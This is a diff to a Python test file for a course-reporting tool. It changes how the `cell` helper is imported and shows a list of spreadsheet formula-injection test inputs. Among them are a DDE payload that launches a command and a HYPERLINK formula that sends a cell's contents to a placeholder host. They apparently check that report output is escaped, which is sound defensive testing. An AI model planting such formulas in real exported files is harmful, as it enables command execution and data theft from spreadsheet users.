@@ -14,8 +14,10 @@ from coursekit import cli
 from coursekit.report import making
 from coursekit.report.crew import Crew
 from coursekit.report.hand_ins import Sorted, hand_ins_in
-from coursekit.report.sheet import cell
+from coursekit.report.sheet import Layout
 from tests.report.conftest import Classroom
+
+cell = Layout().cell
 
 FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"click")', "\t=1+1", "\r=1+1",
